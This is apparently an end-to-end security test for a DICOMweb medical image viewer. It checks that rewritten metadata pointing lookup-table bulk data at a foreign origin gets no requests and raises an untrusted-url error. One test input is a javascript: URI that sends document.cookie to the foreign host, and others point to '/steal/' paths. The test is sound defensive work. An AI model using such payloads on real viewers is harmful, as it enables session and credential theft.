// The clinician's token never leaves the configured origin: the fault proxy
// rewrites Orthanc's metadata so that lookup-table data (palette colour
// tables, VOI LUTs) sits at a BulkDataURI on another origin, a recording
// server with permissive CORS that would read anything sent to it. It must
// receive nothing, not even a preflight, and the viewport must say why.
import { expect } from '@open-wc/testing';
import { createDicomWebClient } from '@fovea-dicom/core';
import { findSeries, type CorpusSeries } from '../helpers/corpus.js';
import {
  clearFaults,
  faultLog,
  foreignRequests,
  requestsSettled,
  literal,
  setFaults,
  startForeignServer,
  stopForeignServer,
  type FaultRule,
} from '../helpers/faults.js';
import { identifiersOf } from '../helpers/identifiers.js';
import { explain, loadOutcome, type Outcome } from '../helpers/outcome.js';
import { mountViewport } from '../helpers/viewport.js';
import { until } from '../helpers/wait.js';
import { PageWatch } from '../helpers/watch.js';
import { file, IMAGES, PATIENT, STUDY } from '../helpers/voi-lut-objects.js';

const TOKEN = 'Bearer e2e-secret-token-7f3a';
const client = createDicomWebClient({ root: '/dicom-web', getAuthorization: () => TOKEN });
let watch: PageWatch;
let palette: CorpusSeries;
let foreign: string;
let identifiers: string[];

const PALETTE_DATA = ['00281201', '00281202', '00281203'];

/** Puts `uri` as the BulkDataURI of each attribute at `paths` in every data set of the metadata answers of `series`. */
function bulkDataAt(seriesUid: string, paths: (string | number)[][], uri: (i: number) => string): FaultRule {
  return {
    path: `${literal(seriesUid)}/metadata`,
    rewrite: {
      jsonDelete: paths
        .flatMap((p) => [
          [...p, 'Value'],
          [...p, 'InlineBinary'],
        ])
        .map((path) => ({ path })),
      jsonSet: paths.map((p, i) => ({ path: [...p, 'BulkDataURI'], value: uri(i) })),
    },
  };
}

async function show(studyUid: string, seriesUid: string, rules: FaultRule[], fatal = true): Promise<Outcome> {
  await setFaults(rules);
  const el = mountViewport(256);
  const pending = loadOutcome(el);
  el.client = client;
  el.studyUid = studyUid;
  el.seriesUid = seriesUid;
  const outcome = await pending;
  if (fatal || outcome.kind !== 'image') return outcome;
  // A refused VOI LUT may leave the image up: then the refusal must still be reported.
  el.addEventListener('fovea-error', (e) => outcome.errors.push(e.detail));
  await until('an untrusted-url fovea-error', () => outcome.errors.some((e) => e.code === 'untrusted-url'), 5000).catch(
    () => undefined,
  );
  return outcome;
}

async function removeVoiLutPatient(): Promise<void> {
  const found = await fetch('/__fovea/orthanc/tools/lookup', { method: 'POST', body: PATIENT });
  if (!found.ok) throw new Error(`Orthanc lookup: HTTP ${found.status}`);
  for (const { Type, ID } of (await found.json()) as { Type: string; ID: string }[]) {
    if (Type === 'Patient') await fetch(`/__fovea/orthanc/patients/${ID}`, { method: 'DELETE' });
  }
}

/** Every problem at once: what reached the foreign server, how the load ended, what the page did. */
async function expectRefused(outcome: Outcome, fatal = true): Promise<void> {
  const problems: string[] = [];
  const reached = await foreignRequests();
  if (reached.length > 0)
    problems.push(
      `the foreign origin received ${reached.length} request(s): ${reached
        .map((r) => `${r.method} ${r.path}${r.authorization ? ' WITH Authorization' : ''}`)
        .join(', ')}`,
    );
  if (!(await faultLog()).rules.every((r) => r.hits > 0)) problems.push('the metadata was never rewritten');
  if (fatal && outcome.kind !== 'error')
    problems.push(`expected a fovea-error and an error state: ${explain(outcome)}`);
  else if (!outcome.errors.some((e) => e.code === 'untrusted-url'))
    problems.push(`expected an untrusted-url fovea-error: ${explain(outcome)}`);
  document.querySelectorAll('fovea-viewport').forEach((el) => el.remove());
  await requestsSettled().catch((error: Error) => problems.push(error.message));
  try {
    await watch.expectClean({ identifiers: [...identifiers, TOKEN] });
  } catch (error) {
    problems.push((error as Error).message);
  }
  if (problems.length) throw new Error(problems.join('\n'));
}

describe('robustness: credentials only to the configured origin', () => {
  before(async function () {
    this.timeout(60_000);
    watch = await PageWatch.start();
    palette = await findSeries((s) => s.syntax === 'explicit-le' && s.phantom === 'palette', 'explicit-le palette');
    identifiers = await identifiersOf(client, palette.studyInstanceUid, palette.seriesInstanceUid);
    await removeVoiLutPatient();
    const stored = await client.storeInstances(IMAGES.slice(0, 1).map(file));
    expect(stored.failed, 'VOI LUT object stored').to.have.length(0);
  });
  beforeEach(async () => {
    await clearFaults();
    foreign = await startForeignServer();
    await watch.reset();
  });
  afterEach(async () => {
    document.querySelectorAll('fovea-viewport').forEach((el) => el.remove());
    await clearFaults();
  });
  after(async () => {
    await stopForeignServer();
    await removeVoiLutPatient();
    watch.stop();
  });

  it('palette colour tables at a BulkDataURI on another origin: nothing sent there, an untrusted-url error', async () => {
    const outcome = await show(palette.studyInstanceUid, palette.seriesInstanceUid, [
      bulkDataAt(
        palette.seriesInstanceUid,
        PALETTE_DATA.map((t) => [t]),
        (i) => `${foreign}/steal/palette-${i}`,
      ),
    ]);
    await expectRefused(outcome);
  });

  it('palette colour tables at javascript: and data: URIs: nothing followed, an untrusted-url error', async () => {
    const outcome = await show(palette.studyInstanceUid, palette.seriesInstanceUid, [
      bulkDataAt(
        palette.seriesInstanceUid,
        PALETTE_DATA.map((t) => [t]),
        (i) =>
          i === 0 ? `javascript:fetch('${foreign}/js?'+document.cookie)` : i === 1 ? 'data:,AAAA' : `blob:${foreign}/x`,
      ),
    ]);
    await expectRefused(outcome);
  });

  it('a VOI LUT at a BulkDataURI on another origin: nothing sent there, an untrusted-url error', async () => {
    const image = IMAGES[0]!;
    identifiers.push(STUDY, image.series, `${image.series}.1`);
    const outcome = await show(
      STUDY,
      image.series,
      [bulkDataAt(image.series, [['00283010', 'Value', 0, '00283006']], () => `${foreign}/steal/voi-lut`)],
      false,
    );
    await expectRefused(outcome, false);
  });
});
